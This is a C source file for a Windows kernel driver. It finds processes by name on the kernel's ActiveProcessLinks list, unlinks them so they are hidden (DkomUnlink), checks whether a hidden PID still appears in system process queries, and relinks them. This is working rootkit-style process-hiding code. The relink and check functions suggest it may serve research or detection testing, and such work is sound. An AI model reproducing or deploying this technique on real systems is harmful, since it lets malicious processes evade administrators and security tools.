/*
 * Walking and unlinking ActiveProcessLinks. The list head (PsActiveProcessHead, not exported) is
 * the Blink of the System process's entry, System being the first process on the list.
 */
#include "dkom.h"

#define SystemProcessInformation 5

/* SYSTEM_PROCESS_INFORMATION: the fields used here (ntexapi.h; pointer-sized fields follow the arch). */
typedef struct _DKOM_SPI {
    ULONG NextEntryOffset;
    ULONG NumberOfThreads;
    UCHAR Reserved1[48];
    UNICODE_STRING ImageName;
    LONG BasePriority;
    HANDLE UniqueProcessId;
} DKOM_SPI;

PEPROCESS DkomFindByName(const DKOM_OFFSETS *o, const char *name)
{
    PLIST_ENTRY head = DKOM_LINKS(o, PsInitialSystemProcess)->Blink;
    PLIST_ENTRY e;
    ULONG n = 0;
    for (e = head->Flink; e != head && n < 4096; e = e->Flink, n++)
        if (_stricmp(DKOM_NAME(o, DKOM_PROCESS(o, e)), name) == 0) return DKOM_PROCESS(o, e);
    return NULL;
}

ULONG DkomCount(const DKOM_OFFSETS *o)
{
    PLIST_ENTRY head = DKOM_LINKS(o, PsInitialSystemProcess)->Blink;
    PLIST_ENTRY e;
    ULONG n = 0;
    for (e = head->Flink; e != head && n < 4096; e = e->Flink) n++;
    return n;
}

BOOLEAN DkomListedBySystemInformation(HANDLE pid)
{
    ULONG need = 0;
    BOOLEAN found = FALSE;
    PUCHAR buf, at;
    if (ZwQuerySystemInformation(SystemProcessInformation, NULL, 0, &need) != STATUS_INFO_LENGTH_MISMATCH || need == 0) return FALSE;
    buf = (PUCHAR)ExAllocatePoolWithTag(NonPagedPool, need, DKOM_TAG);
    if (buf == NULL) return FALSE;
    if (NT_SUCCESS(ZwQuerySystemInformation(SystemProcessInformation, buf, need, &need))) {
        for (at = buf;; at += ((DKOM_SPI *)at)->NextEntryOffset) {
            if (((DKOM_SPI *)at)->UniqueProcessId == pid) found = TRUE;
            if (((DKOM_SPI *)at)->NextEntryOffset == 0) break;
        }
    }
    ExFreePoolWithTag(buf, DKOM_TAG);
    return found;
}

void DkomUnlink(const DKOM_OFFSETS *o, PEPROCESS p, BOOLEAN selfLink)
{
    PLIST_ENTRY e = DKOM_LINKS(o, p);
    e->Blink->Flink = e->Flink;
    e->Flink->Blink = e->Blink;
    if (selfLink) {
        e->Flink = e;
        e->Blink = e;
    }
}

void DkomRelinkAfter(const DKOM_OFFSETS *o, PEPROCESS p, PEPROCESS after)
{
    PLIST_ENTRY e = DKOM_LINKS(o, p);
    PLIST_ENTRY prev = DKOM_LINKS(o, after);
    e->Flink = prev->Flink;
    e->Blink = prev;
    prev->Flink->Blink = e;
    prev->Flink = e;
}
